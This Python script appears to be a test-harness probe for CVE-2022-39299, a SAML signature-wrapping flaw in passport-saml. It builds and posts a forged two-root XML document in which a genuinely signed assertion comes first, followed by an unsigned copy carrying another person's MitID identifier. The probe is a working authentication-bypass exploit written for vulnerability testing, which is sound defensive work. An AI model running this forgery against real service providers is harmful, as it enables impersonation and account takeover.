#!/usr/bin/env python3
"""Advisory probe: a genuinely signed element as the first of two top-level elements.

CVE-2022-39299 (passport-saml < 3.2.2): passport-saml checks for "a valid signature on the
document element" and then finds assertions with `/*[local-name()='Response']/...` XPaths.
xmldom (its parser) accepts a document with two top-level elements, so an attacker who holds
*anything* the IdP signed (here: the genuine signed assertion of their own login) puts it first
and appends a Response with an unsigned assertion for someone else. The 3.2.2 fix counts the
top-level elements. The catalogue's `signature.signed-foreign-element` nests the signed element
inside the Response instead, which 3.2.1 handles, so this probe covers the real vector until
the catalogue has it.

The document is not well-formed XML; a conforming parser refuses it, which is a PASS. Like the
KeyValue probe it posts plaintext assertions, so it is SKIPPED for SPs that refuse those.

Usage: probe_two_roots.py HARNESS ROW_DIR OUT_JSON    (standard library + xmlsec1 only)
"""

import json
import os
import re
import subprocess
import sys
import tempfile

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from probe_keyvalue import (  # noqa: E402  (sibling module, found through the path above)
    FORGED_UUID,
    genuine_plaintext_response,
    post_and_ask,
    start_login,
)

SCENARIO = "probe.signed-element-as-first-root"
TITLE = "IdP-signed element as first top-level element, forged Response second (CVE-2022-39299 class)"


def probe(harness, row):
    sp, opener, request_id = start_login(row)
    with tempfile.TemporaryDirectory() as tmp:
        xml = genuine_plaintext_response(harness, row, request_id, tmp)
    xml = re.sub(r"^<\?xml[^>]*\?>\s*", "", xml)
    acs = re.search(r'<(?:\w+:)?Response\b[^>]*\bDestination="([^"]+)"', xml).group(1)
    m = re.search(r"<((?:\w+:)?)Assertion\b.*?</\1Assertion>", xml, re.S)
    if not m:
        return "no assertion in the decrypted response"
    signed = m.group(0)
    # The forged copy: same content for another person, a new ID, no signature.
    forged = re.sub(r"<ds:Signature\b.*?</ds:Signature>", "", signed, count=1, flags=re.S)
    forged, n = re.subn(r"(/person/uuid/)[0-9a-fA-F-]{36}", r"\g<1>" + FORGED_UUID, forged)
    if n == 0:
        return "could not find the MitID NameID to replace"
    forged = re.sub(r'(<(?:\w+:)?Assertion\b[^>]*\bID=")[^"]+', r"\g<1>_forged-assertion", forged, count=1)
    # First top-level element: the genuinely signed assertion, standing alone (it declares its
    # own namespaces). Second: the original Response envelope around the forged assertion.
    response = xml[: m.start()] + forged + xml[m.end():]
    document = (signed + response).encode()
    return post_and_ask(sp, opener, acs, document) or (
        "FAIL", "the SP logged in the forged identity %s from the unsigned assertion in the second "
        "top-level element" % FORGED_UUID)


def main():
    if len(sys.argv) != 4:
        print(__doc__, file=sys.stderr)
        return 2
    harness, row, out = sys.argv[1], sys.argv[2], sys.argv[3]
    try:
        result = probe(harness, row)
    except (subprocess.CalledProcessError, OSError, AttributeError, KeyError, ValueError) as e:
        detail = getattr(e, "stderr", "") or ""
        result = ("INCONCLUSIVE", "probe could not run: %s %s" % (e, detail.strip()[:200]))
    if isinstance(result, str):
        result = ("INCONCLUSIVE", result)
    verdict, message = result
    report = {"results": [{"id": SCENARIO, "title": TITLE, "family": "probe", "verdict": verdict,
                           "message": message}]}
    with open(out, "w") as f:
        json.dump(report, f, indent=1)
    print("%s %s: %s" % (verdict, SCENARIO, message))
    return 0


if __name__ == "__main__":
    sys.exit(main())
